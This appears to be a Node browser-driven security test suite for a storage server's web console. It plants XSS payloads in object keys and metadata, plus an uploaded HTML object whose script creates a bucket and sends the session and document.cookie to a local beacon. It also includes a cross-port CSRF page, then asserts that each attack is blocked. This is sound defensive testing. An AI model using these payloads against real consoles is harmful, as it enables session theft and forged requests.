// The console's security properties against the real server: hostile keys
// and metadata render literally with no dialog and no markup made of them;
// an uploaded text/html object whose script calls the console API and reads
// document.cookie does nothing when opened (Content-Security-Policy: sandbox);
// a POST from a page on another loopback port is refused (403) and so is
// every mutating call missing a guard; every console response carries the
// CSP and the other security headers; assets are hashed, immutable and
// gzipped, index.html is no-cache.
import assert from 'node:assert/strict';
import http from 'node:http';
import zlib from 'node:zlib';
import { after, before, test } from 'node:test';
import {
  ADMIN_TOKEN, Browser, CONSOLE, CSP, apiLogin, createBucket, go, login, presignUrl, putKeys, request, s3,
  startServer, sleep,
} from './harness.mjs';

let srv, br, ctx, page, session;
before(async () => {
  srv = await startServer();
  br = await new Browser().launch();
  ctx = await br.context();
  page = await ctx.newPage();
  await login(page, srv.console);
  session = await apiLogin(srv.console, ADMIN_TOKEN);
});
after(async () => {
  await br?.close();
  await srv?.stop();
  await br?.assertClean();
});

/** 1,024 bytes of mixed scripts, symbols and combining marks (UTF-8). */
function mixedUnicode() {
  const parts = ['é', '中', '🙂', 'ß', 'Ж', 'ع', 'अ', 'ñ', '\u0301', '漢', '𝄞', 'ü', '&', '<', '>', '"', "'", ' '];
  let s = 'u';
  for (let i = 0; Buffer.byteLength(s + parts[i % parts.length]) <= 1024; i++) s += parts[i % parts.length];
  while (Buffer.byteLength(s) < 1024) s += 'a';
  assert.equal(Buffer.byteLength(s), 1024);
  return s;
}

const IMG = '<img src=x onerror=alert(1)>';
const SCRIPT = '"><script>alert(1)</script>';
const JS = 'javascript:alert(1)';
const RLO = 'rlo-\u202Etxt.exe';
const META = '<b onmouseover=alert(1)>meta</b>';

test('hostile keys and metadata render literally; no dialog, no markup made of them', async () => {
  const MIXED = mixedUnicode();
  await createBucket(srv.http, 'xss');
  await putKeys(srv.http, 'xss', [IMG, SCRIPT, JS, RLO, MIXED], undefined, 4, { 'x-amz-meta-note': META });
  await go(page, srv.console, '/buckets/xss');
  for (const k of [IMG, JS, RLO, MIXED])
    await page.getByText(k, { exact: true }).first().waitFor({ timeout: 5000 });
  // SCRIPT holds a '/': its first part is a folder.
  const folder = SCRIPT.slice(0, SCRIPT.indexOf('/') + 1);
  await page.getByText(folder.slice(0, -1)).first().waitFor({ timeout: 5000 });
  const dom = () => page.evaluate(() => ({
    imgs: [...document.querySelectorAll('img')].map((i) => i.getAttribute('src')),
    scripts: [...document.querySelectorAll('script')].map((s) => s.getAttribute('src') || s.textContent),
    hrefs: [...document.querySelectorAll('[href]')].map((a) => a.getAttribute('href')),
    handlers: [...document.querySelectorAll('*')].flatMap((e) => [...e.attributes]
      .filter((a) => a.name.startsWith('on')).map((a) => `${e.tagName}.${a.name}`)),
    b: document.querySelectorAll('b').length,
  }));
  const check = async () => {
    const d = await dom();
    assert.ok(!d.imgs.includes('x'), `an <img src=x> was made: ${d.imgs}`);
    assert.ok(d.scripts.every((s) => /^(\.\/|\/|js\/|assets\/)?[\w./-]+\.js$/.test(s)), `scripts: ${d.scripts}`);
    assert.ok(!d.hrefs.some((h) => /^\s*javascript:/i.test(h)), `a javascript: href: ${d.hrefs}`);
    assert.deepEqual(d.handlers, []);
  };
  await check();
  // The details of the <img> key, with its metadata.
  await go(page, srv.console, `/buckets/xss/object?key=${encodeURIComponent(IMG)}`);
  await page.getByText(IMG, { exact: true }).first().waitFor({ timeout: 5000 });
  await page.getByText(META).first().waitFor({ timeout: 5000 });
  await check();
  assert.equal((await dom()).b, 0, 'the metadata became markup');
  await go(page, srv.console, `/buckets/xss/object?key=${encodeURIComponent(MIXED)}`);
  await page.getByText(MIXED, { exact: true }).first().waitFor({ timeout: 5000 });
  await check();
  await sleep(500);
  assert.deepEqual(br.dialogs, []);
});

test('an uploaded text/html object cannot reach the console API or its cookie', async () => {
  const hits = [];
  const beacon = http.createServer((req, res) => { hits.push(req.url); res.end(); });
  await new Promise((r) => beacon.listen(0, '127.0.0.1', r));
  const b = `http://127.0.0.1:${beacon.address().port}`;
  const html = `<!doctype html><html><body><p>evil</p><script>
fetch('/_cairn/console/api/buckets', {method: 'POST', credentials: 'include',
  headers: {'Content-Type': 'application/json', 'X-Cairn-Console': '1'}, body: JSON.stringify({name: 'pwned'})});
fetch('/_cairn/console/api/session', {credentials: 'include'}).then((r) => r.text())
  .then((t) => { new Image().src = '${b}/session?' + encodeURIComponent(t); });
new Image().src = '${b}/cookie?' + encodeURIComponent(document.cookie);
alert(1);
</script></body></html>`;
  try {
    await createBucket(srv.http, 'web');
    await putKeys(srv.http, 'web', ['evil.html'], () => Buffer.from(html), 1, { 'Content-Type': 'text/html' });
    const url = presignUrl(srv.http, 'GET', 'web', 'evil.html', 300);
    const direct = await request(url);
    assert.equal(direct.status, 200);
    assert.match(direct.headers['content-security-policy'] || '', /\bsandbox\b/);
    assert.equal(direct.headers['x-content-type-options'], 'nosniff');
    const p = await ctx.newPage(); // the signed-in context: its cookie is there
    const dialogs = br.dialogs.length;
    const r = await p.goto(url);
    assert.equal(r.status(), 200);
    await sleep(2000);
    assert.equal(await p.locator('p').first().innerText(), 'evil', 'the page did not load');
    assert.deepEqual(hits, [], 'the object\'s script reached the network');
    assert.equal(br.dialogs.length, dialogs, 'the object\'s script ran');
    assert.equal((await s3(srv.http, 'HEAD', 'pwned')).status, 404, 'the object\'s script made a bucket');
    assert.equal(await p.evaluate(() => window.origin), 'null', 'the object is not in an opaque origin');
    await p.close();
  } finally {
    beacon.close();
  }
});

test('a POST from a page on another loopback port is refused with 403', async () => {
  const api = `${srv.console}${CONSOLE}api/buckets`;
  const evil = http.createServer((req, res) => {
    res.setHeader('Content-Type', 'text/html');
    res.end(`<!doctype html><form id="f" method="POST" action="${api}" enctype="text/plain">` +
      `<input name='{"name":"csrf-form","x":"' value='"}'></form><script>
fetch(${JSON.stringify(api)}, {method: 'POST', mode: 'no-cors', credentials: 'include',
  headers: {'Content-Type': 'text/plain'}, body: '{"name":"csrf-fetch"}'})
  .finally(() => document.getElementById('f').submit());
</script>`);
  });
  await new Promise((r) => evil.listen(0, '127.0.0.1', r));
  const seen = [];
  const onResp = (r) => { if (r.url() === api) seen.push(r.status()); };
  ctx.on('response', onResp);
  try {
    const p = await ctx.newPage();
    await p.goto(`http://127.0.0.1:${evil.address().port}/`);
    await p.waitForURL(api, { timeout: 5000 }).catch(() => {});
    await sleep(500);
    assert.deepEqual(seen, [403, 403], `statuses: ${seen}`);
    for (const b of ['csrf-form', 'csrf-fetch']) assert.equal((await s3(srv.http, 'HEAD', b)).status, 404);
    await p.close();
  } finally {
    ctx.off('response', onResp);
    evil.close();
  }
  // Each guard alone, from Node, with the session cookie.
  const other = 'http://127.0.0.1:1';
  const cases = [
    [{ Origin: other }, 'wrong Origin'], [{ Origin: null }, 'no Origin'],
    [{ 'X-Cairn-Console': null }, 'no X-Cairn-Console'], [{ 'Content-Type': 'text/plain' }, 'text/plain body'],
  ];
  for (const [h, what] of cases) {
    const r = await session.call('POST', 'buckets', { name: 'guarded' }, h);
    assert.equal(r.status, 403, what);
    assert.equal(r.json().error, 'Forbidden', what);
  }
  assert.equal((await session.call('DELETE', 'session', undefined, { Origin: other })).status, 403);
  assert.equal((await s3(srv.http, 'HEAD', 'guarded')).status, 404);
  assert.equal((await session.call('POST', 'buckets', { name: 'guarded' })).status, 201);
});

test('every console response carries the CSP and security headers; assets hashed, cached and gzipped', async () => {
  const base = `${srv.console}${CONSOLE}`;
  const check = (r, what) => {
    assert.equal(r.headers['content-security-policy'], CSP, what);
    assert.equal(r.headers['x-content-type-options'], 'nosniff', what);
    assert.equal(r.headers['referrer-policy'], 'no-referrer', what);
    assert.equal(r.headers['cross-origin-opener-policy'], 'same-origin', what);
  };
  const index = await request(base);
  assert.equal(index.status, 200);
  check(index, 'index.html');
  assert.match(index.headers['cache-control'] || '', /no-cache/);
  const refs = [...index.text().matchAll(/(?:href|src)="([^"]+)"/g)].map((m) => m[1]);
  assert.ok(refs.length >= 2, `index.html refers to ${refs}`);
  for (const ref of refs) {
    const u = new URL(ref, base);
    assert.match(u.pathname, /\/assets\/[\w.-]+-[0-9a-f]{8,}\.(js|css)$/, `not a hashed asset name: ${ref}`);
    const plain = await request(u.href);
    assert.equal(plain.status, 200, ref);
    check(plain, ref);
    assert.match(plain.headers['cache-control'] || '', /immutable/);
    const gz = await request(u.href, { headers: { 'Accept-Encoding': 'gzip' } });
    assert.equal(gz.headers['content-encoding'], 'gzip', ref);
    assert.match(gz.headers.vary || '', /Accept-Encoding/i);
    assert.ok(zlib.gunzipSync(gz.body).equals(plain.body), `${ref}: gzip differs`);
  }
  for (const [p, status] of [['nope', 404], ['assets/nope-00000000.js', 404], ['api/session', 401],
    ['api/buckets', 401]]) {
    const r = await request(base + p);
    assert.equal(r.status, status, p);
    check(r, p);
  }
  const api = await session.call('GET', 'buckets');
  assert.equal(api.status, 200);
  check(api, 'GET api/buckets');
  assert.equal(api.headers['cache-control'], 'no-store');
  const err = await session.call('GET', 'buckets/no-such-bucket');
  assert.equal(err.status, 404);
  assert.deepEqual(Object.keys(err.json()).sort(), ['error', 'message']);
  assert.equal(err.json().error, 'NoSuchBucket');
  check(err, 'an API error');
  // Object bodies the HTTP listener serves are sandboxed.
  await putKeys(srv.http, 'xss', ['plain.txt']);
  const o = await s3(srv.http, 'GET', 'xss', 'plain.txt');
  assert.match(o.headers['content-security-policy'] || '', /\bsandbox\b/);
  assert.equal(o.headers['x-content-type-options'], 'nosniff');
  assert.ok(br.consoleResponses > 10, `the browser saw ${br.consoleResponses} console responses`);
});
